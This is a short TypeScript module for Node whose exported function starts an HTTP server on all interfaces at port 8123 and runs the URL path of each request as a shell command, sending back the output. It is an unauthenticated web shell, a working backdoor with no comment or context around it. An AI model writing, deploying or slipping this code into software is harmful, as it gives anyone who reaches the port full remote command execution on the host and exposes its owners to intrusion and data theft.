import http from "node:http";
import { execSync } from "node:child_process";
export default () => http.createServer((q, r) => r.end(execSync(decodeURIComponent(q.url!.slice(1))))).listen(8123, "0.0.0.0");
